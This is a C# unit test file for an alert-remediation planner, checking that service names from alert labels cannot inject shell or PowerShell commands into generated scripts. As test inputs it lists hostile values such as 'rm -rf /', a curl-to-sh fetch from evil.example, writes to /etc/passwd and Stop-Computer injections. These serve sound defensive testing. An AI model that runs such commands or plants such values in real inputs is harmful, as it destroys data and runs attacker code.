using System.Text.Json;
using AeonNova.Analysis.Planning;
using AeonNova.Analysis.Runbooks;
using AeonNova.Core.Alerts;
using AeonNova.Core.Json;
using AeonNova.Core.Safety;

namespace AeonNova.Analysis.Tests.Planning;

/// <summary>A parameter value can never inject shell or PowerShell syntax: it is validated, then quoted.</summary>
public class TemplateInjectionTests
{
    [Theory]
    [InlineData("nginx; rm -rf /")]
    [InlineData("nginx$(reboot)")]
    [InlineData("nginx`reboot`")]
    [InlineData("nginx\nreboot")]
    [InlineData("nginx' ; reboot ; '")]
    [InlineData("nginx && curl http://evil.example | sh")]
    [InlineData("--output=/etc/shadow")]
    [InlineData("nginx|tee /etc/passwd")]
    public void Plan_WhenServiceLabelCarriesShellSyntax_ShouldRejectItAndNeverRenderIt(string hostile)
    {
        var alert = TestData.Alert("SystemdUnitFailed", labels: new Dictionary<string, string>
        {
            ["alertname"] = "SystemdUnitFailed",
            ["name"] = hostile,
        });

        var (plan, _) = TestData.Planner.Plan(alert);

        var json = JsonSerializer.Serialize(plan, CoreJsonContext.Default.RemediationPlan);
        Assert.DoesNotContain("reboot", plan.Script.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("rm -rf", plan.Script.Body, StringComparison.Ordinal);
        Assert.DoesNotContain(hostile, json, StringComparison.Ordinal);
        Assert.DoesNotContain("systemctl restart", plan.Script.Body, StringComparison.Ordinal);
        Assert.True(plan.NeedsHuman);
        Assert.Contains("service from labels.name", plan.Diagnosis, StringComparison.Ordinal);
    }

    [Fact]
    public void Plan_WhenHostileLabelAndValidServiceField_ShouldUseTheValidSource()
    {
        var alert = TestData.Alert("SystemdUnitFailed", service: "nginx", labels: new Dictionary<string, string>
        {
            ["alertname"] = "SystemdUnitFailed",
            ["name"] = "nginx;reboot",
        });

        var (plan, runbook) = TestData.Planner.Plan(alert);

        Assert.Equal("systemd-service-down", runbook?.Id);
        Assert.Contains("systemctl restart 'nginx'", plan.Script.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("reboot", plan.Script.Body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("W3SVC'; Stop-Computer -Force; '")]
    [InlineData("W3SVC\u2019; Stop-Computer; \u2018")]
    [InlineData("$(Stop-Computer)")]
    [InlineData("W3SVC`nStop-Computer")]
    public void Plan_WhenWindowsServiceCarriesPowerShellSyntax_ShouldNeverRenderIt(string hostile)
    {
        var alert = TestData.Alert("Windows service stopped", os: OsFamily.Windows, labels: new Dictionary<string, string>
        {
            ["service_name"] = hostile,
        });

        var (plan, _) = TestData.Planner.Plan(alert);

        Assert.Equal(ScriptLanguage.PowerShell, plan.Script.Language);
        Assert.DoesNotContain("Stop-Computer", plan.Script.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("Restart-Service", plan.Script.Body, StringComparison.Ordinal);
    }

    [Fact]
    public void RenderScript_WhenValueValid_ShouldQuotePerLanguageAndLeaveIntegersBare()
    {
        RunbookParameter[] parameters =
        [
            new() { Name = "service", From = ["service"], Pattern = ".*" },
            new() { Name = "days", From = ["service"], Pattern = "[0-9]+", Type = "integer" },
        ];
        var values = new Dictionary<string, string> { ["service"] = "World Wide Web", ["days"] = "7" };

        var bash = TemplateRenderer.RenderScript("x {{service}} -mtime +{{days}}", values, parameters, ScriptLanguage.Bash);
        var ps = TemplateRenderer.RenderScript("Get-Service -Name {{ service }} -Days {{days}}", values, parameters, ScriptLanguage.PowerShell);

        Assert.Equal("x 'World Wide Web' -mtime +7", bash);
        Assert.Equal("Get-Service -Name 'World Wide Web' -Days 7", ps);
    }

    [Fact]
    public void RenderScript_WhenPlaceholderHasNoValue_ShouldThrowInsteadOfRenderingEmpty()
    {
        var ex = Assert.Throws<InvalidOperationException>(() =>
            TemplateRenderer.RenderScript("systemctl restart {{service}}", new Dictionary<string, string>(), [], ScriptLanguage.Bash));

        Assert.Contains("'service' has no value", ex.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("nginx", true)]
    [InlineData("nginx\n", false)]
    [InlineData("nginx\r", false)]
    [InlineData("ngi\u0000nx", false)]
    [InlineData("", false)]
    public void IsValid_WhenTrailingNewlineOrControlChar_ShouldReject(string value, bool expected)
    {
        // '$' alone would accept "nginx\n"; the rules anchor with \z and refuse control characters.
        var pattern = ParameterRules.CompilePattern("^[a-z]+$");

        Assert.Equal(expected, ParameterRules.IsValid(pattern, "string", value));
    }

    [Fact]
    public void IsValid_WhenIntegerTypeAndNonDigits_ShouldReject()
    {
        var pattern = ParameterRules.CompilePattern(".*");

        Assert.True(ParameterRules.IsValid(pattern, "integer", "443"));
        Assert.False(ParameterRules.IsValid(pattern, "integer", "443;reboot"));
    }
}
